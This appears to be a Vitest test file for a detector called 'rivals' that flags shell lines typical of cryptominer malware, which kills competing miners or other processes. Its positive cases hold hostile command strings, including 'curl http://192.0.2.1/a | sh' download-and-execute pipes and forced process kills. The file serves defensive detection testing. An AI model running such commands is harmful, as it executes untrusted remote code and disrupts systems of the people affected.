import { expect, it } from 'vitest'
import { rivals } from './rivals.js'
import { codesOfLine } from './tell.fixture.js'

it.each([
  ['pkill xmrig; curl http://192.0.2.1/a | sh', ['rivals.replaced']],
  ['ps aux | grep xmrig | awk "{print $2}" | xargs kill -9', ['rivals.stopped']],
  ['pkill Opera; pkill Xorg; curl http://192.0.2.1/a | sh', ['rivals.killed']],
])('is told by %s', (line, codes) => {
  expect(codesOfLine(rivals, line)).toEqual(codes)
})

it.each([['pkill nginx'], ['grep xmrig rules.txt'], ['kill -9 4711']])('is not told by %s', (line) => {
  expect(codesOfLine(rivals, line)).toEqual([])
})
